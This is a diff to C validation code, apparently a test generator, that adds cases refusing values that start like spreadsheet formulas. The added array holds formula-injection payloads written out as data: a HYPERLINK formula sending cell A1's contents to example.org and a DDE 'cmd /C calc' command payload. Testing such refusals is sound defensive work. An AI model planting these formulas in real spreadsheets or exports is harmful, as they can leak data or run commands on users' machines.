@@ -269,6 +269,24 @@ static int refusals(const struct content_file *file, int col, struct refusal *ou
 		text_of(expr, sizeof expr, LIMIT_SLUG + 1, "a");
 		set_value(&out[n++], file, col, expr, "too long");
 	}
+	/* A spreadsheet formula (issue 12): refused in every text, by build
+	 * and by check, for the reason the rule gives. */
+	static const struct {
+		bool email;
+		const char *value;
+	} formulas[] = {{false, "'=HYPERLINK(\"https://example.org/?\"&A1)'"}, {false, "'-2+3+cmd|'' /C calc''!A0'"},
+			{true, "'=x@example.org'"}};
+	for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
+		bool text = f->rule == RULE_TEXT || f->rule == RULE_LINE;
+		if (formulas[i].email ? f->rule != RULE_EMAIL : !text)
+			continue;
+		struct refusal *c = &out[n++];
+		set_value(c, file, col, formulas[i].value, "a spreadsheet formula");
+		snprintf(c->build_a, sizeof c->build_a, "%s", c->build_b);
+		snprintf(c->build_b, sizeof c->build_b, "starts like a spreadsheet formula");
+		snprintf(c->check_a, sizeof c->check_a, "%s", c->check_b);
+		snprintf(c->check_b, sizeof c->check_b, "starts like a spreadsheet formula");
+	}
 	if (file == &meta_settings && strcmp(f->name, "languages") == 0) {
 		set_value(&out[n], file, col, "'deutsch'", "not a code");
 		snprintf(out[n++].check_b, sizeof out->check_b, "languages \"deutsch\" is not a list");
